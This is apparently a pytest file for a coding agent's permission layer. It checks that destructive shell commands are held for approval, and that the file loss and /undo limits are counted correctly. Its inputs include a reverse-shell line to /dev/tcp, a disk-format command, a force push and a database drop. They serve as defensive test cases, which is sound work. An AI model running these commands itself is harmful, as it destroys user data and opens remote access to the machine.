"""The line of danger: what would be gone, counted in a real repository, and never more than can be restored."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from swecli.core.permissions.decide import decide
from swecli.core.permissions.facts import OsFacts
from swecli.core.permissions.shell.losses import Loss, merged
from swecli.core.permissions.types import Call, Decision, Effects, Policy

GIT = shutil.which("git")
pytestmark = pytest.mark.skipif(GIT is None, reason="needs git")
ENVIRONMENT = {"PATH": os.environ.get("PATH", os.defpath), "HOME": "/nonexistent"}


def git(work: Path, *arguments: str) -> None:
    names = ("-c", "user.name=A", "-c", "user.email=a@b", "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false")
    subprocess.run([str(GIT), *names, "-C", str(work), *arguments], check=True, capture_output=True, env=ENVIRONMENT)


@pytest.fixture
def work(tmp_path: Path) -> Path:
    root = Path(os.path.realpath(tmp_path)) / "work"
    (root / "src").mkdir(parents=True)
    for number in range(4):
        (root / "src" / f"{number}.py").write_text("one\n")
    (root / ".gitignore").write_text("*.log\nout/\n")
    git(root, "init")
    git(root, "add", "-A")
    git(root, "commit", "-m", "first")
    (root / "src" / "new.py").write_text("new\n")
    (root / "src" / "0.py").write_text("changed\n")
    (root / "out").mkdir()
    for number in range(3):
        (root / "out" / f"{number}.o").write_text("o\n")
    (root / "a.log").write_text("log\n")
    return root


def decided(command: str, work: Path) -> Decision:
    facts = OsFacts(ENVIRONMENT)
    policy = Policy(home="/nonexistent", facts=facts)
    return decide(policy, Call("run_command", {}, Effects(command=command), str(work), (str(work),)))


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("rm -rf out", "deletes 3 untracked files (/undo restores them)"),
        ("rm -rf src", "deletes 5 files, 1 of them untracked (/undo restores them)"),
        ("rm -f src/*", "deletes 5 files, 1 of them untracked (/undo restores them)"),
        ("rm -rf src/0.py", "deletes 1 file (/undo restores it)"),
        ("find . -name '*.py' -delete", "deletes some of 38 files (/undo restores them)"),
        ("find out -delete", "deletes 3 untracked files (/undo restores them)"),
        ("git clean -f", "deletes 1 untracked file (/undo restores it)"),
        ("git clean -fdx", "deletes 5 untracked files (/undo restores them)"),
        ("git clean -fdX", "deletes 4 untracked files (/undo restores them)"),
        ("git clean -fx -- src", "deletes 1 untracked file (/undo restores it)"),
        ("git checkout -- .", "discards changes in 1 file (/undo restores it)"),
        ("git checkout .", "discards changes in 1 file (/undo restores it)"),
        ("git checkout src", "discards changes in 1 file (/undo restores it)"),
        ("git checkout src/0.py a.log", "discards changes in 1 file (/undo restores it)"),
        ("git restore src", "discards changes in 1 file (/undo restores it)"),
        ("git restore src/1.py", "discards changes in no files"),
        ("git reset --hard", "discards changes in 1 file (/undo restores it)"),
        ("git stash drop", "/undo can't restore the stash"),
        ("git push --force", "/undo can't restore the remote"),
        ("echo x > src/1.py", "overwrites 1 file (/undo restores it)"),
        ("rm -rf out && git push -f", "deletes 3 untracked files; /undo can't restore the remote"),
        ("psql -c 'drop table users'", "/undo can't restore the database"),
    ],
)
def test_what_would_be_gone_is_counted(work: Path, command: str, line: str) -> None:
    decision = decided(command, work)
    assert decision.outcome == "ask"
    assert decision.loss is not None
    found = decision.loss.line("")
    if decision.loss.some:  # with git's own files
        assert found.startswith("deletes some of ")
    else:
        assert found == line


@pytest.mark.parametrize(
    ("command", "danger", "told"),
    [
        ("rm -rf out", "rm -rf out removes whole directories", True),
        ("rm -rf out && git push -f", "git push -f can destroy work or change what other programs do", False),
        (
            "rm -rf gone && git push -f",
            "rm -rf gone removes whole directories; git push -f can destroy work or change what other programs do",
            False,
        ),
        (
            "; ".join(f"rm -rf {name}" for name in "abcde"),
            "; ".join(f"rm -rf {name} removes whole directories" for name in "abc") + " and 2 more",
            False,
        ),
    ],
)
def test_each_danger_that_the_loss_does_not_tell_is_named(work: Path, command: str, danger: str, told: bool) -> None:
    decision = decided(command, work)
    assert (decision.danger, decision.told) == (danger, told)


def test_nothing_is_claimed_of_what_is_not_counted(work: Path) -> None:
    for command in (
        *("rm -rf $X", "rm -rf out; shred src/1.py", "git checkout HEAD~1 -- src", "git clean -f -e x"),
        *("git checkout main src/0.py", "git checkout -f main"),
        *("d=src; true && d=out; rm -rf $d", "d=out; for d in src; do :; done; rm -rf $d"),
    ):
        decision = decided(command, work)
        assert decision.outcome == "ask"
        assert not decision.counted
        assert decision.danger


def test_what_can_not_be_restored_is_named() -> None:
    loss = Loss("deletes", 36, 36, paths=("/w/a",))
    assert loss.line("") == "deletes 36 untracked files (/undo restores them)"
    assert loss.line("node_modules (generated folder)") == (
        "deletes 36 untracked files; /undo can't restore node_modules (generated folder)"
    )
    both = merged((loss, Loss(beyond="the database")))
    assert both is not None
    assert both.line("big (too large)").endswith("/undo can't restore the database and big (too large)")


def test_without_a_repository_and_in_a_large_tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = Path(os.path.realpath(tmp_path))
    (root / "d").mkdir()
    for number in range(20):
        (root / "d" / str(number)).touch()
    loss = decided("rm -rf d", root).loss
    assert loss is not None
    assert loss.clause == "deletes 20 files"
    monkeypatch.setattr("swecli.core.permissions.facts.MAX_TREE", 10)
    monkeypatch.setattr("swecli.core.permissions.facts._tree.__defaults__", (10,))
    large = decided("rm -rf d", root).loss
    assert large is not None
    assert large.clause == "deletes at least 10 files"


def test_git_is_not_started_where_the_repository_chooses_a_program(work: Path) -> None:
    ran = work.parent / "ran"
    git(work, "config", "core.fsmonitor", f"touch {ran}")
    decision = decided("git clean -fdx", work)
    assert decision.outcome == "ask"
    assert not decision.counted
    assert not ran.exists()


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("docker compose up", "docker acts through another process, which no sandbox contains."),
        ("sed -i s/a/b/ README.md", "sed -i rewrites files in place."),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "The shell would connect to 192.0.2.1."),
        ("cat < /dev/udp/example.org/53", "The shell would connect to example.org."),
        ("git checkout main src/0.py", "git checkout main src/0.py can destroy work or change what other programs do."),
        ("mkfs.ext4 /dev/sda", "mkfs.ext4 overwrites devices or whole files."),
        ("python3 -c \"open('a', 'w').write('x')\"", "The python3 code contains \"open('a', 'w')\"."),
        ("python3 -c \"import os; os.remove('a')\"", "The python3 code contains 'os.remove'."),
    ],
)
def test_a_danger_is_a_whole_sentence(work: Path, command: str, reason: str) -> None:
    assert decided(command, work).reason == reason
